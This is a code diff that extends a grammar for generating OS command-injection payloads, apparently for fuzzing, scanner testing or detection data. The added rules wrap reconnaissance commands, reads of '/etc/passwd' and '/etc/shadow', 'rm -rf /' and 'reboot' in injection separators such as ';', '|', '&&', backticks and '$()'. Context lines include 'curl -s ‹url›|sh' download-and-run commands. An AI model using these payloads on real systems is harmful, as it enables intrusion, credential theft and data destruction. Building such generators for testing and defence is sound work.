@@ -57,6 +57,15 @@ _SYMBOLS: Symbols = {
         "exit", "wget -O /tmp/‹abc› ‹url›", "curl -s ‹url›|sh", "tftp ‹ip›", "ftp ‹ip›", "ssh ‹ip›",
         "xterm -display ‹ip›:‹d›", "gcc ‹id›.c", "lynx ‹url›",
     ),
+    "core": (
+        "id", "id", "whoami", "ls", "ls -la", "ls -l", "pwd", "uname -a", "cat /etc/passwd",
+        "ps aux", "dir",
+        "hostname", "env", "ping -c ‹d› ‹ip›", "ping -c 10 127.0.0.1", "sleep ‹secs›", "rm -rf /",
+        "ifconfig",
+        "cat /etc/shadow", "netstat -an", "echo ‹rnd›", "reboot", "date", "ping -i ‹n8› 127.0.0.1",
+        "ls /",
+    ),
+    "lead": ("", "", "‹v›", "‹v›", "‹n›", "‹rnd›", "‹id›", "‹v› ", "‹word›", "‹id›.‹txt¦jpg¦pdf›"),
     "cmd": ("‹plain›", "‹plain›", "‹reader› ‹file›", "‹reader› ‹file›", "‹act›", "‹act›"),
     "full": (
         "/bin/‹cat¦more¦tac› ‹file›", "/usr/bin/‹head¦tail¦less¦nl¦sort¦strings¦xxd› ‹file›",
@@ -117,6 +126,11 @@ RULES = _GRAMMAR.rules(
     separator_first=(
         "‹opt›‹cmd›‹e›", "‹sep›‹cmd›‹e›", "‹opt›‹cmd›", ";‹cmd›;", "|‹cmd›", "| ‹cmd›", "; ‹cmd›",
         "&& ‹cmd›", "& ‹cmd› &", "|‹cmd›|", "\n‹cmd›\n",
+    ),
+    commonest=(
+        "‹lead›‹opt›‹core›‹e›", "‹lead›‹opt›‹core›", "‹lead›‹sep›‹core›", "‹lead›`‹core›`",
+        "‹lead›$(‹core›)",
+        "‹lead›;‹core›;", "‹lead›|‹core›|", "‹lead› && ‹core›", "‹lead›; ‹core›", "‹lead› | ‹core›",
     ),
     behind_value=(
         "‹v›‹opt›‹cmd›", "‹v›‹sep›‹cmd›‹e›", "‹v›; ‹cmd›", "‹v›|‹cmd›", "‹v› && ‹cmd›",
